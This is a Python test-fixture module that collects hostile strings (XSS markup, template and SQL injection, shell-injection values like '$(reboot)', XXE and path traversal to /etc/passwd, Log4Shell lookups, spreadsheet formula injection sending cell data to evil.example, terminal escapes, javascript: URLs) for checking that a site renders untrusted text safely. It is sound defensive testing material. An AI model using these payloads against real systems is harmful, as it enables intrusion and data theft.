"""What a hostile site, or a careless one, may put where a title, a text, an error or an address is expected.

Everything that is shown anywhere goes through every output in `tests/test_hostile_outputs.py` and, where a
browser is at hand, in `tests/browser/`. What would run calls `alert`, which the browser tests hear.
"""

MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><img src=x onerror=alert(1)>",
    "</style><svg onload=alert(1)>",
    "\"><svg onload='alert(1)'>",
    "' onfocus=alert(1) autofocus tabindex=1 x='",
    '" onmouseover="alert(1)" style="position:fixed;inset:0" x="',
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<body onload=alert(1)><marquee onstart=alert(1)>x</marquee>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s /></svg>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'><base href='http://evil.example/'>",
    "<form action='http://evil.example/'><input name=token autofocus><button formaction=//evil.example>x",
    "<style>*{display:none!important}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "]]> <!-- --> <![CDATA[",
    "<?xml-stylesheet href='http://evil.example/x.xsl'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;amp; &nbsp;",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "</textarea></select></table></article></section></main></body></html>",
    "<plaintext>",
)
TEMPLATES = (
    "{{ 7*7 }} {% raw %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7} #{7*7} <%= 7*7 %> %s %(x)s {0} {x!r}",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE finding; --",
    "$(reboot) `reboot` ; reboot && reboot | reboot",
    "../../../../etc/passwd\\..\\..\\windows",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=WEBSERVICE("http://evil.example/")',
    '=IMPORTXML("http://evil.example/","//a")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    '"=1+1"',
    ";=1+1,=2+2\t=3+3",
)
TERMINAL = (
    "\x1b[31mred\x1b]0;title\x07",
    "\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H\x1b[?1049h",
    "\x1bP+q544e\x1b\\ \x1b_x\x1b\\",
    "\x9b2J\x9d0;x\x9c",
    "over\rwritten\x08\x08\x08\x7f",
    "\x0e\x0f\x05\x1a",
)
UNSEEN = (
    "\u202egnp.exe\u2066x\u2069",
    "a\u200bb\ufeffc\u00add\u2060e",
    "line\nbreak\r\nand\u2028more\u2029and\x85end\x0b\x0c",
    "\x00\x01\ufffe\uffff\ufdd0",
    "half a pair \ud800 and the other \udfff",
    "\U000e0001\U000e0041\U000e007f tags",
    "e" + "\u0301" * 300,
    "👨‍👩‍👧‍👦🏳️‍🌈",
    "مرحبا שלום 你好",
    "\u3000\u00a0\u2003",
    "",
    "  ",
)
MARKDOWN = (
    "# heading",
    "- item\n- item",
    "1. item",
    "> quote",
    "***",
    "===",
    "| a | b |\n|---|---|",
    "[link](javascript:alert(1)) ![i](http://evil.example/x.png)",
    "[link]: http://evil.example/ 'x'",
    "<http://evil.example>",
    "`code` ~~gone~~ $x$ \\",
    "    indented\n```\nfence",
)
HEADERS = (
    "title\r\nBcc: victim@evil.example\r\n\r\nbody",
    "=?utf-8?B?PHNjcmlwdD4=?=",
    "@everyone <!channel> @here",
)
LONG = (
    "字" * 3_000,
    "W" * 3_000,
    "a " * 1_500,
)

HOSTILE: tuple[str, ...] = (
    *MARKUP,
    *TEMPLATES,
    *FORMULAS,
    *TERMINAL,
    *UNSEEN,
    *MARKDOWN,
    *HEADERS,
    *LONG,
)
"""Texts for any place."""

ADDRESSES: tuple[str, ...] = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//http://www.most.gov.cn/",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "http://www.most.gov.cn/\"onmouseover='alert(1)'",
    "http://www.most.gov.cn/'><script>alert(1)</script>",
    "http://www.most.gov.cn@evil.example/",
    "http://[::1",
    "http://www.most.gov.cn/%00%0d%0aSet-Cookie:%20x=1",
    "http://www.most.gov.cn/\u202e/lmth.1",
    "https://xn--80ak6aa92e.com/",
    "//evil.example/",
    "file:///etc/passwd",
    "http://www.most.gov.cn/" + "a" * 3_000,
    "http://www.most.gov.cn/)](javascript:alert(1))",
)
"""Texts where an address is expected."""
